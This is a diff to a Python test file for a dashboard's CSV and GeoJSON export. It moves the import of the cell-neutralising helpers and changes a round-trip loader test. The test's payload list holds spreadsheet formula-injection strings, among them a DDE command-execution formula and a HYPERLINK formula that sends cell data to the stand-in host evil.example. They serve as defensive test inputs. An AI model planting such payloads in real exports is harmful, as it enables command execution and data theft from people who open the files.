@@ -15,15 +15,14 @@ from dashboard.export import (
     TEXT_COLUMNS,
     downloads,
     export_name,
-    neutralise_cell,
     to_csv_bytes,
     to_geojson_bytes,
-    unneutralise_cell,
 )
 from dashboard.gazetteer import Gazetteer
 from dashboard.load import load_events
 from dashboard.query import Query, events_in
 from dashboard.store import EventStore, index_store
+from dashboard.text import neutralise_cell, unneutralise_cell
 
 PAYLOADS = ["=1+1", "+SUM(A1)", "-2+3", "@SUM(A1:A9)", "\t=cmd", "\r=cmd|' /C calc'!A0",
             '=HYPERLINK("http://evil.example/?x="&A1,"click")', "'=already quoted"]
@@ -98,10 +97,11 @@ def test_csv_round_trips_through_the_loader(payload_store):
     assert loaded["uncertainty_km"].tolist() == original["uncertainty_km"].tolist()
     assert loaded["fatalities"].astype("Float64").fillna(-1).tolist() == \
         original["fatalities"].astype("Float64").fillna(-1).tolist()
-    # The loader may keep our leading quote or strip it; either way nothing of the text is lost.
+    # The loader takes off the quote our export put in front of formula-like text (and, as for any
+    # file, the white space around a cell): nothing else changes.
     for column in ("actors", "quote", "summary", "place", "claimed_by", "dispute"):
-        restored = [unneutralise_cell(str(v)) for v in loaded[column]]
-        assert restored == original[column].astype(str).tolist(), column
+        expected = original[column].astype(str).str.strip().tolist()
+        assert loaded[column].astype(str).tolist() == expected, column
 
 
 def test_geojson_carries_points_properties_and_sources(payload_store):
